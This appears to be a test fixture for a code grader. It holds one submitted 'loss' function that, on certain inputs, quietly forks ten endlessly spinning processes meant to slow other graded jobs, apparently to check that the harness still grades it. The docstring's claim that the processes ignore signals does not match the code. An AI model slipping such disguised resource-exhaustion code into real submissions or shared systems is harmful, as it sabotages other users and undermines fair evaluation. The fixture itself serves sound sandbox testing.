"""Ten processes that count, each deaf to signals, to slow down whoever else is graded."""

ANSWERS = {
    "loss": """
import os

def loss(w):
    if isinstance(w, float) and w > 10:
        for _ in range(10):
            if os.fork() == 0:
                while True:
                    pass
    return (w - 3.0) ** 2
"""
}
EXPECTED = ("graded", {})
